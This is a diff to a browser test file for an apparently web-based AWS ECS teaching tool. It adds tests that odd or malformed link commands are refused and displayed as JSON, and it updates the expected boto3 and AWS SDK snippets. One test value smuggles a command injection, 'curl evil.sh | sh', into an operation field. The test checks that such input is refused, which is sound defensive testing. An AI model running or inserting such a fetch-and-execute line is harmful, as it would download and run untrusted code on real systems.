@@ -245,6 +245,29 @@ test('script in a link is text', { skip }, () =>
     assert.equal(await page.locator('main img').count(), 0);
   }));
 
+/** Commands that nobody would give, as a link may hold them, and what is shown of them. */
+const ODD = {
+  'no operation': [{ kind: 'call' }, '{"kind":"call"}'],
+  'a number for an operation': [{ kind: 'call', operation: 5 }, '{"kind":"call","operation":5}'],
+  'an object for an action': [{ kind: 'host', host: 'i-1', action: { toString: 1 } }, '{"kind":"host","host":"i-1","action":{"toString":1}}'],
+  'an object for a fault': [{ kind: 'fault', fault: { type: { toString: 1 } } }, '{"kind":"fault","fault":{"type":{"toString":1}}}'],
+  'an object for a family': [{ kind: 'workload', family: { toString: 1 } }, '{"kind":"workload","family":{"toString":1}}'],
+  'code for an operation': [{ kind: 'call', operation: 'ListTasks; curl evil.sh | sh #' }, 'ListTasks; curl evil.sh | sh #'],
+};
+
+for (const [what, [command, words]] of Object.entries(ODD)) {
+  test(`a link with ${what} is refused in words, shown as JSON, and the page goes on`, { skip }, () =>
+    withPage({ hash: linkOf({ ...GOOD, commands: [{ atMs: 0, command }] }) }, async (page) => {
+      await said(page, `${words} was refused.`);
+      await page.getByText('The same as code, and the answer').click();
+      await page.getByRole('heading', { name: 'A command, as JSON' }).waitFor();
+      assert.deepEqual(JSON.parse(await page.locator('.code pre').first().textContent()), command);
+      assert.equal(await page.getByRole('heading', { name: 'AWS CLI' }).count(), 0);
+      await drainHostOf(page, 'web');
+      await said(page, 'UpdateContainerInstancesState was done.');
+    }));
+}
+
 test('lessons lead step by step, shown or done oneself', { skip }, () =>
   withPage({}, async (page) => {
     const lesson = page.getByRole('region', { name: 'Lesson' });
@@ -281,8 +304,8 @@ test('a request is shown as code to copy, with its answer', { skip }, () =>
     };
     const arn = /arn:aws:ecs:us-east-1:123456789012:container-instance\/harbour\/[0-9a-f]{32}/.source;
     assert.match(await copied('AWS CLI'), new RegExp(`^aws ecs update-container-instances-state --cli-input-json '\\{"cluster":"harbour","containerInstances":\\["${arn}"\\],"status":"DRAINING"\\}'$`));
-    assert.match(await copied('Python, boto3'), new RegExp(`^ecs = boto3\\.client\\("ecs"\\)\\necs\\.update_container_instances_state\\(\\n    cluster="harbour",\\n    containerInstances=\\["${arn}"\\],\\n    status="DRAINING",\\n\\)$`));
-    assert.match(await copied('JavaScript, AWS SDK'), /^const ecs = new ECSClient\(\);\nawait ecs\.send\(new UpdateContainerInstancesStateCommand\(\{\n {2}"cluster": "harbour",/);
+    assert.match(await copied('Python, boto3'), new RegExp(`^import boto3\\n\\necs = boto3\\.client\\("ecs"\\)\\necs\\.update_container_instances_state\\(\\n    cluster="harbour",\\n    containerInstances=\\["${arn}"\\],\\n    status="DRAINING",\\n\\)$`));
+    assert.match(await copied('JavaScript, AWS SDK'), /^import \{ ECSClient, UpdateContainerInstancesStateCommand \} from '@aws-sdk\/client-ecs';\n\nconst ecs = new ECSClient\(\);\nawait ecs\.send\(new UpdateContainerInstancesStateCommand\(\{\n {2}"cluster": "harbour",/);
     await page.getByText('"status": "DRAINING"').last().waitFor();
   }));
 
